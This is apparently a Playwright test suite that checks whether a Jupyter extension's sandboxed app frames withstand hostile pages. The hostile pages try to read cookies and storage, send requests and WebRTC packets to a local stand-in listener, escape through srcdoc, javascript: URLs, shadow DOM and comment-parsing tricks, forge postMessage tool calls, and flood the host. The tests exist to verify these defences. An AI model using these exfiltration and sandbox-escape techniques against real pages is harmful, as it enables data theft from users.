"""An app that attacks: nothing of the user's gets out of its frame, and what floods is stopped with a line."""

import json
import select
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import pytest
from playwright.sync_api import Page, expect

from tests import apps
from tests.browser.conftest import Open, ShowApp
from tests.browser.notebooks import Notebook, app_in
from tests.browser.places import LOAD

TRY = """
  const attempt = async (name, act) => {
    try { write(name, `reached ${String(await act()).slice(0, 50)}`); }
    catch (error) { write(name, `refused ${error.name}`); }
  };
"""
STOPPED = "The app was stopped"


class Listener:
    """A web server on another site, which keeps the paths of requests."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def stranger() -> Iterator[Listener]:
    """Another site, which must not be reached."""
    listener = Listener()
    yield listener
    urlopen(f"{listener.url}/control").close()
    assert listener.paths == ["/control"]  # it can be reached, and the app did not
    listener.close()


def expect_responsive(page: Page, notebook: Notebook) -> None:
    """The page still works, and the kernel, which runs cell 1 again."""
    assert page.evaluate("new Promise(done => requestAnimationFrame(() => done(1 + 1)))") == 2
    count = notebook.cell(1).locator(".jp-InputPrompt").inner_text()
    notebook.run(1)
    expect(notebook.output(1)).to_contain_text("alive")
    assert notebook.cell(1).locator(".jp-InputPrompt").inner_text() != count


TARGETS = (
    "parent.document.body.innerHTML",
    "top.document.cookie",
    "document.cookie",
    "localStorage.length",
    "sessionStorage.length",
    "await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
    "await caches.keys()",
    "top.jupyterapp.serviceManager",
    "top.localStorage.length",
    "top.location.href",
    "top.frames[0].document.body.innerHTML",
    "await navigator.serviceWorker.register('sw.js')",
    "await fetch('/some/where/api/contents')",
    "await fetch(document.referrer || 'http://127.0.0.1/')",
    "await navigator.clipboard.readText()",
    "new Function('return 1')()",
)


def test_a_page_reaches_nothing_of_jupyter(show_app: ShowApp) -> None:
    attempts = "".join(f"await attempt('t{number}', async () => {each});" for number, each in enumerate(TARGETS))
    notebook = show_app("attack", apps.page(f"{TRY} await begin(); {attempts} write('done', 'yes');"))
    app = app_in(notebook, 1)
    expect(app.locator("#done")).to_have_text("yes")
    results = {target: app.locator(f"#t{number}").inner_text() for number, target in enumerate(TARGETS)}
    assert {target: text for target, text in results.items() if not text.startswith("refused")} == {}


def test_no_request_leaves_the_page(show_app: ShowApp, stranger: Listener) -> None:
    url = stranger.url
    body = f"""
      <img src="{url}/image"><link rel="stylesheet" href="{url}/style"><link rel="prefetch" href="{url}/prefetch">
      <link rel="preload" as="image" href="{url}/preload"><script src="{url}/script"></script>
      <style>@font-face {{ font-family: x; src: url({url}/font) }}
      p {{ font-family: x; background: url({url}/css) }}</style>
      <video src="{url}/video"></video><object data="{url}/object"></object><embed src="{url}/embed">
      <iframe src="{url}/frame"></iframe><form action="{url}/form" method="post"><input name="a" value="b"></form>
      <base href="{url}/"><p>text</p>
    """
    script = f"""
      await begin();
      await attempt("fetch", () => fetch("{url}/fetch"));
      await attempt("beacon", () => {{ if (!navigator.sendBeacon("{url}/beacon")) throw new Error(); }});
      await attempt("xhr", () => new Promise((yes, no) => {{
        const x = new XMLHttpRequest(); x.onload = yes; x.onerror = () => no(new Error());
        x.open("GET", "{url}/xhr"); x.send();
      }}));
      await attempt("socket", () => new Promise((yes, no) => {{
        const s = new WebSocket("{url.replace("http", "ws")}/socket");
        s.onopen = yes; s.onerror = () => no(new Error());
      }}));
      await attempt("events", () => new Promise((yes, no) => {{
        const s = new EventSource("{url}/events"); s.onopen = yes; s.onerror = () => no(new Error());
      }}));
      const code = `fetch("{url}/worker").then(() => postMessage("reached"), () => postMessage(""));
        try {{ importScripts("{url}/worker-script") }} catch {{}}
        new WebSocket("{url.replace("http", "ws")}/worker-socket");`;
      const data = `data:text/javascript,${{encodeURIComponent(code)}}`;
      for (const [kind, address] of [["blob", URL.createObjectURL(new Blob([code]))], ["data", data]]) {{
        await attempt(`${{kind}}-worker`, () => new Promise((yes, no) => {{
          const w = new Worker(address);
          w.onmessage = ({{ data }}) => data ? yes() : no(new RangeError("it ran")); w.onerror = () => no(new Error());
        }}));
      }}
      await attempt("import", () => import("{url}/module"));
      write("done", "yes");
    """
    notebook = show_app("attack", apps.page(f"{TRY}{script}", body))
    app = app_in(notebook, 1)
    expect(app.locator("#done")).to_have_text("yes")
    for name in ("fetch", "xhr", "socket", "events", "import"):
        expect(app.locator(f"#{name}")).to_contain_text("refused")
    for name in ("blob-worker", "data-worker"):
        expect(app.locator(f"#{name}")).to_have_text("refused RangeError")  # it ran
    expect(notebook.output(1)).to_contain_text("Blocked, since the app did not declare it")


RTC = """(async () => {
  const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:ADDRESS" }] });
  p.createDataChannel("x");
  await p.setLocalDescription(await p.createOffer());
})()"""
"""Sends a packet to another site, which no content security policy forbids."""
FRAME = "const f = document.createElement('iframe'); f.srcdoc = PAGE;"
PREFIXED = FRAME.replace("Element('", "ElementNS(document.body.namespaceURI, 'x:")
SHADOW = "`<div><template shadowrootmode=closed><iframe srcdoc='${PAGE}'></iframe></template></div>`"
PEERS = {
    "the page": "RTC",
    "a frame": f"{FRAME} document.body.append(f); const end = Date.now() + 300; while (Date.now() < end);",
    "a frame with a script as its address": f"{FRAME} f.removeAttribute('srcdoc'); f.src = `javascript:RTC`;"
    " document.body.append(f);",
    "a frame that is filled later": f"{FRAME} f.srcdoc = ''; document.body.append(f); await new Promise(setTimeout);"
    " f.srcdoc = PAGE;",
    "a frame with a prefix": f"{PREFIXED} document.body.append(f);",
    "a closed shadow tree": f"{FRAME} const d = document.createElement('div'); document.body.append(d);"
    " d.attachShadow({ mode: 'closed' }).append(f);",
    "a copied shadow tree": f"{FRAME} const d = document.createElement('div');"
    " d.attachShadow({ mode: 'open', clonable: true }); const c = d.cloneNode(true); document.body.append(c);"
    " (c.shadowRoot ?? document.body).append(f);",
    "a written shadow tree": f"document.write({SHADOW});",
    "a parsed shadow tree": f"document.body.setHTMLUnsafe({SHADOW});",
    "changed methods": "Array.prototype[Symbol.iterator] = function* () {}; Element.prototype.remove = () => {};"
    f" Document.prototype.querySelectorAll = () => []; {FRAME} document.body.append(f);",
}
STATIC = """
  <iframe srcdoc="<script>RTC</script>"></iframe><iframe src="javascript:RTC"></iframe>
  <div><template shadowrootmode="closed"><iframe srcdoc="<script>RTC</script>"></iframe></template></div>
"""
BEGINNINGS = ("<!--x--!>{}-->", "<!-->{}-->", "<!--->{}-->", '<!doctype x ">{}', "\ufeff{}", "<!{}>{}", "<?x>{}", "{}")
"""Places ahead of a page where a script may be, among them ends of comments that only HTML parsers know."""


@pytest.fixture
def peer() -> Iterator[socket.socket]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("0.0.0.0", 0))
        yield listener


def test_no_packet_leaves_the_page(open_notebook: Open, page: Page, work: Path, peer: socket.socket) -> None:
    host = socket.gethostbyname(socket.gethostname())
    rtc = RTC.replace("ADDRESS", f"{host}:{peer.getsockname()[1]}")
    quoted = rtc.replace("\n", " ").replace('"', "&quot;")
    script = f"await begin(); const PAGE = {json.dumps('<script>RTC</script>')}.replace('RTC', {json.dumps(rtc)});"
    script = script.replace("</", "<\\/")
    load = f"{LOAD}\n{apps.load(work / 'pages')}"
    show: list[str] = []
    for number, act in enumerate(["", *PEERS.values()]):
        own = act.replace("RTC", rtc)
        body = "" if act else STATIC.replace("RTC", quoted)
        html = apps.page(f"{script} try {{ {own} }} catch (e) {{}} write('tried', 'yes');", body)
        apps.write(work / "pages", f"p{number}", html)
        show.append(f"mcp.apps.p{number}()")
    keep = "<script>window.KEEP = RTCPeerConnection</script>"
    use = f"await begin(); try {{ const RTCPeerConnection = KEEP; {rtc} }} catch (e) {{}} write('tried', 'yes');"
    for number, beginning in enumerate(BEGINNINGS, len(show)):
        apps.write(work / "pages", f"p{number}", beginning.replace("{}", keep) + apps.page(use))
        show.append(f"mcp.apps.p{number}()")
    notebook = open_notebook(load, *show)
    notebook.run(0)
    for index in range(1, len(show) + 1):
        notebook.run(index)
        expect(app_in(notebook, index).locator("#tried")).to_have_text("yes")
    expect(notebook.output(3)).to_contain_text("Blocked, since the app did not declare it: about:srcdoc (frame-src)")
    page.wait_for_timeout(500)  # that nothing comes cannot be waited for
    assert not select.select([peer], [], [], 0)[0]
    page.evaluate(rtc)
    assert select.select([peer], [], [], 20)[0], "the listener can be reached, so nothing above was sent"


def test_a_page_may_begin_with_any_number_of_comments(show_app: ShowApp) -> None:
    html = "<!-- licence -->" * 10_000 + apps.page("await begin(); write('mode', document.compatMode);")
    notebook = show_app("comments", html.replace("<!doctype html>", ""))
    expect(app_in(notebook, 1).locator("#mode")).to_have_text("CSS1Compat")


def test_a_page_with_granted_frames_has_only_those(show_app: ShowApp) -> None:
    script = "await begin(); setTimeout(() => write('frames', document.querySelectorAll('iframe').length), 100);"
    body = "<iframe src='https://data.example/'></iframe><iframe srcdoc='x'></iframe><iframe src='blob:x'></iframe>"
    declared = {"csp": {"frameDomains": ["https://data.example"]}}
    notebook = show_app("frames", apps.page(script, body), ui=declared)
    notebook.output(1).get_by_role("button", name="Allow").click()
    expect(app_in(notebook, 1).locator("#frames")).to_have_text("1")


ADD = "document.body.insertAdjacentHTML('beforeend', {});"
LINK = "const a = document.createElement('a'); a.href = URL_; document.body.append(a);"
LEAVING = {
    "location": "location.href = URL_",
    "replace": "location.replace(URL_)",
    "link": f"{LINK} a.click()",
    "refresh": f"{ADD.format('`<meta http-equiv=refresh content=0;url=${URL_}>`')}",
    "form": f"{ADD.format('`<form action=${URL_}></form>`')} document.forms[0].submit()",
    "top": "try { top.location = URL_ } catch {}",
    "target": f"{LINK} a.target = '_top'; a.click()",
    "popup": "const w = window.open(URL_); if (w) w.location = URL_",
    "download": f"{LINK} a.download = 'f'; a.click()",
    "ping": f"{ADD.format('`<a href=# ping=${URL_}>`')} document.querySelector('a').click()",
}


def test_a_page_cannot_leave_its_frame_or_open_another(
    open_notebook: Open, page: Page, work: Path, stranger: Listener
) -> None:
    for way, act in LEAVING.items():
        script = f"await begin(); const URL_ = '{stranger.url}/{way}'; {act}; write('tried', 'yes');"
        apps.write(work / "pages", f"by_{way}", apps.page(script))
    before = len(page.context.pages)
    downloads: list[object] = []
    page.on("download", lambda download: downloads.append(download))
    shows = [f"mcp.apps.by_{way}()" for way in LEAVING]
    notebook = open_notebook(f"{LOAD}\n{apps.load(work / 'pages')}", "print('alive')", *shows)
    notebook.run(0)
    for index in range(2, len(LEAVING) + 2):
        notebook.run(index)
        expect(notebook.output(index)).to_contain_text("the text of by_")
        expect_responsive(page, notebook)
    page.wait_for_timeout(500)  # that nothing happens cannot be waited for
    assert len(page.context.pages) == before and not downloads
    assert stranger.url not in page.url


def test_forged_messages_reach_neither_jupyter_nor_another_app(open_notebook: Open, page: Page, work: Path) -> None:
    victim = apps.page("globalThis.heard = () => write('heard', seen.length); await begin(); write('ready', 'yes');")
    apps.write(work / "pages", "victim", victim)
    forge = """
      await begin();
      const forged = { jsonrpc: "2.0", method: "ui/notifications/tool-result", params: { content: [] } };
      const walk = (frames, depth) => {
        for (let i = 0; i < frames.length; i++) {
          frames[i].postMessage(forged, "*");
          frames[i].postMessage({ ipymcp: "frame" }, "*", [new MessageChannel().port1]);
          if (depth) walk(frames[i].frames, depth - 1);
        }
      };
      for (let i = 0; i < 20; i++) {
        walk(top.frames, 2);
        top.postMessage({ ipymcp: "frame" }, "*");
        top.postMessage({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "add" } }, "*");
      }
      write("frames", top.frames.length);
    """
    apps.write(work / "pages", "attack", apps.page(forge))
    cells = (f"{LOAD}\n{apps.load(work / 'pages')}", "mcp.apps.victim()", "mcp.apps.attack()")
    notebook = open_notebook(*cells, "mcp.history()")
    for index in range(3):
        notebook.run(index)
        if index == 1:
            expect(app_in(notebook, 1).locator("#ready")).to_have_text("yes")
    expect(app_in(notebook, 2).locator("#frames")).to_have_text("2")
    expect(app_in(notebook, 1).locator("#heard").last).to_have_text("2")  # input and result, and no third
    page.wait_for_timeout(300)
    expect(app_in(notebook, 1).locator("#heard")).to_have_count(2)
    notebook.run(3)
    expect(notebook.output(3)).to_contain_text("attack")
    expect(notebook.output(3)).not_to_contain_text("add")


def test_an_app_calls_only_tools_of_its_own_server_that_are_for_apps(show_app: ShowApp) -> None:
    script = """
      await begin();
      for (const name of ["demo.echo", "echo", "secret", "refresh", "../demo/echo"]) {
        const { error, result } = await request("tools/call", { name, arguments: { text: "x" } });
        write(`tool-${name.replace(/\\W/g, "-")}`, error?.message ?? result.content[0].text);
      }
      for (const method of ["sampling/createMessage", "roots/list", "logging/setLevel", "initialize", "app_agree"]) {
        const { error } = await request(method);
        write(method.replace(/\\W/g, "-"), error.code);
      }
      const { result } = await request("tools/list");
      write("listed", result.tools.map((each) => each.name).join());
    """
    notebook = show_app("attack", apps.page(script), call="%mcp load demo;\nmcp.apps.attack()")
    app = app_in(notebook, 1)
    expect(notebook.output(1)).to_contain_text("An app wants to run apps.refresh")
    notebook.output(1).get_by_role("button", name="Allow once").click()
    expect(app.locator("#listed")).to_have_text("attack,add,refresh")
    expect(app.locator("#tool-refresh")).to_have_text("fresh")
    expect(app.locator("#tool-secret")).to_contain_text("is for models only")
    for name in ("demo-echo", "echo", "---demo-echo"):
        expect(app.locator(f"#tool-{name}")).to_contain_text("has no tool")
    for method in ("sampling-createMessage", "roots-list", "logging-setLevel", "initialize", "app_agree"):
        expect(app.locator(f"#{method}")).to_have_text("-32601")


FOREVER = "for (;;) { for (let i = 0; i < 500; i++) SEND; await new Promise(setTimeout); }"
SLOWLY = "for (;;) { top.postMessage('x'.repeat(1_000_000), '*'); await new Promise((done) => setTimeout(done, 20)); }"
LONG = "send({ method: 'notifications/message', params: { data: 'x'.repeat(LENGTH) } });"
DEEP = "let deep = []; for (let i = 0; i < 500; i++) deep = [deep]; send({ method: 'x', params: { deep } })"
PAST = "it sent more than 100 messages in 10 seconds past its frame"
FLOODS = [
    ("10 MB in a second", LONG.replace("LENGTH", "100_000_000")),
    ("10 MB in a second", f"for (let i = 0; i < 500; i++) {LONG.replace('LENGTH', '200_000')}"),
    ("1,000 messages", FOREVER.replace("SEND", "send({ method: 'x' })")),
    ("100 levels", DEEP),
    (PAST, FOREVER.replace("SEND", "top.postMessage('x', '*')")),
    (PAST, SLOWLY),
    ("it did not respond for 15 seconds", "setTimeout(() => { for (;;); }, 200);"),
]


def test_a_flood_or_an_endless_loop_is_stopped_with_a_line_and_the_page_goes_on(
    open_notebook: Open, page: Page, work: Path
) -> None:
    for number, (_, flood) in enumerate(FLOODS):
        apps.write(work / "pages", f"flood{number}", apps.page(f"await begin(); {flood}"))
    shows = [f"mcp.apps.flood{number}()" for number in range(len(FLOODS))]
    notebook = open_notebook(f"{LOAD}\n{apps.load(work / 'pages')}", "print('alive')", *shows)
    notebook.run(0)
    for index, (why, _) in enumerate(FLOODS, 2):
        notebook.run(index)
        expect_responsive(page, notebook)
        expect(notebook.output(index)).to_contain_text(STOPPED)
        expect(notebook.output(index)).to_contain_text(why)
        expect(notebook.output(index).locator(".ipymcp-app-frame")).to_have_count(0)
        expect_responsive(page, notebook)
